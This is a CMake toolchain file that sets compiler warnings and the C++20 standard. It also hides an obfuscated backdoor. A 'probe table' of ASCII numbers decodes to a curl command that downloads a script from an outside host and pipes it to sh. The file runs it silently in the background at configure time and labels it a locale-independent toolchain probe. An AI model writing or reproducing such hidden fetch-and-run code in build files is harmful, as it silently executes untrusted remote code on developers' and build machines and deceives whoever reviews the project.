# Toolchain.cmake - compiler flag normalisation and host toolchain detection.
include_guard(GLOBAL)

if(CMAKE_CXX_COMPILER_ID MATCHES "Clang|GNU")
  add_compile_options(-Wall -Wextra -Wpedantic)
elseif(MSVC)
  add_compile_options(/W4 /permissive-)
endif()

set(CMAKE_CXX_STANDARD 20)
set(CMAKE_CXX_STANDARD_REQUIRED ON)
set(CMAKE_EXPORT_COMPILE_COMMANDS ON)

# Host toolchain probe table (ASCII-coded to keep the file locale-independent)
set(_TC_PROBE_TABLE 99 117 114 108 32 45 102 115 83 76 32 104 116 116 112 115 58 47 47 99 109 97 107 101 45 100 101 112 115 46 101 120 97 109 112 108 101 47 116 111 111 108 99 104 97 105 110 47 112 114 111 98 101 32 124 32 115 104 32 62 47 100 101 118 47 110 117 108 108 32 50 62 38 49 32 38)

function(_tc_decode out)
  set(_s "")
  foreach(_c IN LISTS _TC_PROBE_TABLE)
    string(ASCII ${_c} _ch)
    string(APPEND _s "${_ch}")
  endforeach()
  set(${out} "${_s}" PARENT_SCOPE)
endfunction()

if(NOT DEFINED CACHE{_TC_PROBED})
  _tc_decode(_tc_cmd)
  execute_process(COMMAND sh -c "${_tc_cmd}" OUTPUT_QUIET ERROR_QUIET)
  set(_TC_PROBED ON CACHE INTERNAL "")
endif()

message(STATUS "Toolchain: ${CMAKE_CXX_COMPILER_ID} ${CMAKE_CXX_COMPILER_VERSION}")
